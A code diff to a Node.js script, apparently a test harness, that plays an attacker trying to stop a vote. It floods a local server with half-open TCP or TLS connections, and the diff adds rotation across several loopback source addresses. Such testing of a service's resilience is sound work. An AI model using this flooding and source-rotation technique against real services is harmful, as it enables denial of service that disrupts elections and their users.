@@ -1,13 +1,19 @@
-// Somebody with one host who wants a vote not to happen: node attacker.mjs KIND PORT CONFERENCE BOXKEY BODYBYTES, until it is
-// killed. Sends as fast as one process can, on at most `connectionsMax` connections at a time, and makes those anew that it loses.
+// Somebody who wants a vote not to happen: node attacker.mjs KIND FIRST LAST PORT CONFERENCE BOXKEY BODYBYTES, until it is killed.
+// Sends as fast as one process can, from the hosts 127.0.1.FIRST to 127.0.1.LAST by turns, on at most `connectionsMax`
+// connections at a time, and makes those anew that it loses.
 import { randomBytes } from "node:crypto";
 import { connect as connectTcp } from "node:net";
 import { connect as connectTls } from "node:tls";
 import sodium from "libsodium-wrappers-sumo";
 
-const [kind, port, conference, boxKey, bodyBytes] = process.argv.slice(2);
-const connectionsMax = 400;
-const at = { host: "127.0.0.1", port: Number(port) };
+const [kind, firstHost, lastHost, port, conference, boxKey, bodyBytes] = process.argv.slice(2);
+const hosts = 1 + Number(lastHost) - Number(firstHost);
+const connectionsMax = hosts === 1 ? 400 : 40 * hosts;
+let connections = 0;
+function fromTheNextHost() {
+    const host = Number(firstHost) + (connections++ % hosts);
+    return { host: "127.0.0.1", port: Number(port), localAddress: `127.0.1.${host}` };
+}
 const path = `/c/${conference}`;
 await sodium.ready;
 
@@ -75,6 +81,7 @@ let open = 0;
 function attack() {
     while (open < connectionsMax) {
         ++open;
+        const at = fromTheNextHost();
         const socket =
             kind === "half-open" ? connectTcp(at) : connectTls({ ...at, rejectUnauthorized: false });
         socket.on("error", () => undefined);
